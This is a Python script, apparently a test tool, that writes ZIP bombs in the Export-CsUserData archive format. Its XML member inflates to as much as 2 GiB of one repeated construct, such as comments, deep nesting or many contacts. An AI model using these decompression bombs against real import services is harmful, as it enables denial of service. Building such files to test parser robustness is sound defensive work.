#!/usr/bin/env python3
"""Writes a ZIP bomb of one kind: an Export-CsUserData ZIP whose DocItemSet.xml inflates to SIZE
bytes (default 2 GiB) of one repeated thing, a few MB on disk.

Kinds: comment (one comment), attribute (one attribute value), whitespace (between elements),
text (one text node), contacts (empty <Contact/> elements in one user's list), groups (distribution
groups), deep (nested elements), attributes (one tag with ever more attributes), users (distinct
users; compresses less: SIZE is capped at 256 MiB), contacts-public (distinct public contacts of one
user; capped likewise).

Usage: make-bomb.py OUT KIND [--size BYTES]
"""
import argparse
import zipfile

ap = argparse.ArgumentParser()
ap.add_argument("out")
ap.add_argument("kind")
ap.add_argument("--size", type=int, default=2 << 30)
a = ap.parse_args()

head = '<?xml version="1.0" encoding="utf-8"?>\n<DocItemSet xmlns="urn:x">\n'
user = '<DocItem Name="urn:lcd:u@contoso.example"><Data><HomedResource><Contacts>'
tail_user = '</Contacts></HomedResource></Data></DocItem>\n'
# (prefix, repeated unit or a function of the index, suffix)
kinds = {
    "comment": (head + "<!--", "x" * 4096, "-->\n</DocItemSet>\n"),
    "attribute": (head + '<DocItem Name="urn:lcd:', "x" * 4096, '@contoso.example"/>\n</DocItemSet>\n'),
    "whitespace": (head, " " * 4096, "</DocItemSet>\n"),
    "text": (head + "<Note>", "x" * 4096, "</Note>\n</DocItemSet>\n"),
    "contacts": (head + user, "<Contact/>" * 400, tail_user + "</DocItemSet>\n"),
    "groups": (head + user, '<ContactGroup ExternalUri="x"/>' * 100, tail_user + "</DocItemSet>\n"),
    "deep": (head, "<a>" * 1000, "\n"),
    "attributes": (head + "<Note", "".join(f' a{i}=""' for i in range(500)), "/>\n</DocItemSet>\n"),
    "users": (head, lambda i: f'<DocItem Name="urn:lcd:u{i}@contoso.example"/>\n', "</DocItemSet>\n"),
    "contacts-public": (head + user, lambda i: f'<Contact Buddy="c{i}@hotmail.com"/>\n', tail_user + "</DocItemSet>\n"),
}
prefix, unit, suffix = kinds[a.kind]
size = a.size if not callable(unit) else min(a.size, 256 << 20)
with zipfile.ZipFile(a.out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
    z.writestr("MetaData.xml", '<MetaData Version="1" />')
    with z.open("DocItemSet.xml", "w", force_zip64=True) as f:
        f.write(prefix.encode())
        written, i = len(prefix), 0
        block = None if callable(unit) else (unit * max(1, (1 << 20) // len(unit))).encode()
        while written < size:
            if block is None:
                chunk = "".join(unit(i + k) for k in range(10000)).encode()
                i += 10000
            else:
                chunk = block
            f.write(chunk)
            written += len(chunk)
        f.write(suffix.encode())
